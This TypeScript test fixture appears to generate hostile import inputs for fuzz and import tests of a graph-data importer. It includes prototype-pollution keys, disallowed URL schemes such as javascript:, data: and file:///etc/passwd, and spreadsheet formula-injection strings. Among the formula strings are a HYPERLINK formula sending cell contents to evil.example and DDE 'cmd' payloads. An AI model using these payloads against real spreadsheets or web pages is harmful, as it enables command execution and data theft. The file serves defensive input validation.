// Hostile import input, shared by the fuzz test, the import tests and scripts/hostile-inputs.ts (which counts
// the answers before and after a change): keys that name Object.prototype members placed at any depth of a
// graph document, Source URLs that are not absolute http(s), and names a spreadsheet would run as a formula.
import fc from 'fast-check';

/** Keys that a plain-object lookup (`obj[key]`) finds on Object.prototype, or that set the prototype. */
export const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__lookupSetter__',
] as const;

/** Source URLs that must be refused: other schemes, relative or scheme-relative, disguised, or malformed. */
export const HOSTILE_URLS = [
  'javascript:alert(1)',
  'JavaScript:alert(document.domain)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript://%0aalert(1)',
  '\u0000javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'ftp://example.com/x',
  'mailto:a@example.com',
  'blob:https://example.com/x',
  'about:blank',
  '//evil.example/x',
  '/relative/path',
  'www.example.com',
  'http:evil.example',
  'https:/evil.example',
  'http://',
  'https://exa mple.com/',
  '\nhttps://example.com/',
  'https://example.com/\n',
  'http://[::1',
  'https://example.com/\u0000',
];

/** A hostile URL: one of the list, or a generated non-http(s) scheme. */
export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_URLS),
  fc
    .tuple(
      fc.stringMatching(/^[a-z][a-z0-9+.-]{0,10}$/).filter((s) => s !== 'http' && s !== 'https'),
      fc.string({ maxLength: 20 }),
    )
    .map(([scheme, rest]) => `${scheme}:${rest}`),
);

/** Characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection). */
export const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'] as const;

export const formulaName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
  ),
  fc
    .tuple(
      fc.constantFrom(...FORMULA_LEADS),
      fc.string({ minLength: 1, maxLength: 20 }).filter((s) => s.trim() !== ''),
    )
    .map(([lead, rest]) => `${lead}${rest}`),
);

/** A valid document of new records (ids made unique by `tag`): a source, a technology, an organization, a capability. */
export function baseDocument(tag: string): Record<string, any> {
  return {
    sources: [
      {
        id: `source:h-${tag}`,
        title: 'Hostile test source',
        kind: 'NEWS',
        url: 'https://example.com/a',
        provenance: 'ILLUSTRATIVE',
        sources: [],
      },
    ],
    technologies: [
      {
        id: `tech:h-${tag}`,
        name: 'Hostile test technology',
        kind: 'OTHER',
        provenance: 'ASSESSED',
        sources: [`source:h-${tag}`],
      },
    ],
    organizations: [
      {
        id: `org:h-${tag}`,
        name: 'Hostile test org',
        type: 'COMPANY',
        country: 'KR',
        provenance: 'ILLUSTRATIVE',
        sources: [],
      },
    ],
    relationships: [
      {
        type: 'HAS_CAPABILITY',
        from: `org:h-${tag}`,
        to: `tech:h-${tag}`,
        level: 50,
        provenance: 'ILLUSTRATIVE',
        sources: [],
      },
    ],
  };
}

/** Where a key can go: the document, a record, in place of a property value, a list element, a collection. */
export const PLACES = [
  { at: [], expect: [] },
  { at: ['sources', 0], expect: ['sources', '0'] },
  { at: ['technologies', 0], expect: ['technologies', '0'] },
  { at: ['organizations', 0], expect: ['organizations', '0'] },
  { at: ['relationships', 0], expect: ['relationships', '0'] },
  { at: ['technologies', 0, 'name'], expect: ['technologies', '0', 'name'] },
  { at: ['sources', 0, 'url'], expect: ['sources', '0', 'url'] },
  { at: ['relationships', 0, 'level'], expect: ['relationships', '0', 'level'] },
  { at: ['technologies', 0, 'sources', 0], expect: ['technologies', '0', 'sources', '0'] },
  { at: ['organizations'], expect: ['organizations'] },
] as const;

/** An own enumerable property, even for `__proto__` (an assignment would set the prototype instead). */
export function setOwn(obj: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
}

/** `{k1: {k2: ... {key: leaf}}}`: the key at `depth` levels below the object. */
function nested(key: string, depth: number, leaf: unknown): Record<string, unknown> {
  const inner: Record<string, unknown> = {};
  setOwn(inner, key, leaf);
  let obj = inner;
  for (let i = 0; i < depth; i++) obj = { [`level${i}`]: obj };
  return obj;
}

export interface ProtoCase {
  doc: Record<string, any>;
  key: string;
  /** The path (as importGraph's userErrors give it) that a problem must start with. */
  expect: string[];
}

/**
 * A valid document with one prototype key put at a place: as a key of the object there (document, record,
 * collection made an object) or, where the place holds a value, a value that is an object holding the key at some depth.
 */
export function protoCase(tag: string, key: string, placeIndex: number, depth: number, leaf: unknown): ProtoCase {
  const place = PLACES[placeIndex % PLACES.length];
  const doc = baseDocument(tag);
  if (place.at.length === 0) {
    setOwn(doc, key, leaf);
    return { doc, key, expect: [key] };
  }
  let parent: any = doc;
  for (const step of place.at.slice(0, -1)) parent = parent[step];
  const last = place.at[place.at.length - 1];
  const target = parent[last];
  if (target !== null && typeof target === 'object' && !Array.isArray(target) && depth === 0) {
    setOwn(target, key, leaf); // a key of a record
    return { doc, key, expect: [...place.expect, key] };
  }
  parent[last] = nested(key, depth, leaf); // a value (or a collection) that is an object
  return { doc, key, expect: [...place.expect] };
}

export const protoCaseArb = (tag: () => string): fc.Arbitrary<ProtoCase> =>
  fc
    .tuple(
      fc.constantFrom(...PROTO_KEYS),
      fc.nat({ max: PLACES.length - 1 }),
      fc.nat({ max: 4 }),
      fc.jsonValue({ maxDepth: 1 }),
    )
    .map(([key, place, depth, leaf]) => protoCase(tag(), key, place, depth, leaf));

/** Prototype names used as ordinary data, which an import must accept: ids, names, titles. */
export function protoDataDocument(tag: string, key: string): Record<string, any> {
  const slug = key.toLowerCase().replace(/[^a-z0-9]/g, '') || 'proto';
  const doc = baseDocument(tag);
  doc.technologies[0].name = key;
  doc.technologies[0].nameKo = key;
  doc.sources[0].title = key;
  doc.sources[0].publisher = key;
  doc.technologies.push({
    id: `tech:${slug}-${tag}`,
    name: key,
    kind: 'OTHER',
    provenance: 'ILLUSTRATIVE',
    sources: [],
  });
  return doc;
}
